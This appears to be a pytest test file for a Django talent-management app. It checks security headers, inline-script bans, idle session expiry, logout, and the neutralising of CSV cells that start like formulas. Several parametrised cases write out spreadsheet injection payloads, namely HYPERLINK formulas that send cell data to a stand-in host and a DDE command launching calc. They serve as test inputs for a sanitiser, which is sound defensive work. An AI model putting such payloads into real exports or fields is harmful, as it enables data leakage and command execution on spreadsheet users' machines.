"""Headers on every kind of page, the CSV cells a spreadsheet would run, the idle
session and the logout."""

import csv
import io
import time

import pytest
from django.contrib.sessions.models import Session
from django.urls import reverse

from audit.record import csv_safe
from supportlead.middleware import TOUCHED

pytestmark = pytest.mark.django_db


def csp_of(response) -> dict[str, list[str]]:
    policy = {}
    for directive in response["Content-Security-Policy"].split(";"):
        name, *values = directive.split()
        policy[name] = values
    return policy


@pytest.mark.parametrize(
    "who,url",
    [
        (None, "/accounts/login/"),
        ("alice", "/candidates/"),
        ("vp", "/reports/"),
        ("cand.person", "/me/"),
    ],
)
def test_each_page_sends_a_strict_policy_and_the_other_headers(client, org, who, url):
    if who:
        person = org
        for name in who.split("."):
            person = getattr(person, name)
        client.force_login(person.user)
    response = client.get(url)
    assert response.status_code == 200
    policy = csp_of(response)
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]  # no 'unsafe-inline', no other origin
    assert policy["style-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "unsafe-inline" not in response["Content-Security-Policy"]
    assert response["Referrer-Policy"] == "same-origin"
    permissions = response["Permissions-Policy"]
    for feature in ("camera=()", "microphone=()", "geolocation=()"):
        assert feature in permissions
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "DENY"


def test_no_page_template_holds_inline_script_or_style(client, org):
    """What the policy would block: inline <script>, on* handlers, style attributes."""
    client.force_login(org.alice.user)
    for url in (
        reverse("front:pool"),
        reverse("front:profile", args=[org.cand.pk]),
        reverse("front:ninebox"),
        reverse("succession:positions"),
        reverse("reports:health"),
    ):
        html = client.get(url).content.decode()
        assert "<script>" not in html and " onclick=" not in html and " onsubmit=" not in html
        assert ' style="' not in html, url


@pytest.mark.parametrize(
    "value,safe",
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("Casey Jordan", "Casey Jordan"),
        ("a=b", "a=b"),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_a_cell_starting_like_a_formula_is_neutralised(value, safe):
    assert csv_safe(value) == safe


def test_the_pool_export_neutralises_a_name_written_as_a_formula(client, org):
    org.cand.person.full_name = '=HYPERLINK("http://x.example/?"&A1,"Click")'
    org.cand.person.save(update_fields=["full_name"])
    org.cand.person.title = "@boss"
    org.cand.person.save(update_fields=["title"])
    client.force_login(org.alice.user)
    response = client.get(reverse("front:pool"), {"export": "csv", "status": "all"})
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    row = next(r for r in rows if "HYPERLINK" in r[0])
    assert row[0].startswith("'=HYPERLINK")
    assert row[1] == "'@boss"


def test_a_session_ends_after_the_idle_time_and_moves_on_with_use(client, org, settings):
    client.force_login(org.alice.user)
    assert client.get("/candidates/").status_code == 200
    session = client.session
    assert settings.SESSION_COOKIE_AGE == 8 * 3600  # the default idle time
    # A request after the touch interval moves the deadline on.
    session[TOUCHED] = int(time.time()) - settings.SESSION_TOUCH_SECONDS - 1
    session.save()
    before = client.session.get_expiry_date()
    client.get("/candidates/")
    assert client.session.get_expiry_date() > before
    assert client.session[TOUCHED] >= int(time.time()) - 5
    # Idle past the deadline: the session is gone and the next page asks for a login.
    session = client.session
    session.set_expiry(-1)
    session.save()
    response = client.get("/candidates/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_logout_ends_the_session(client, org):
    client.force_login(org.alice.user)
    key = client.session.session_key
    client.post("/accounts/logout/")
    assert not Session.objects.filter(session_key=key).exists()
    assert client.get("/candidates/").status_code == 302
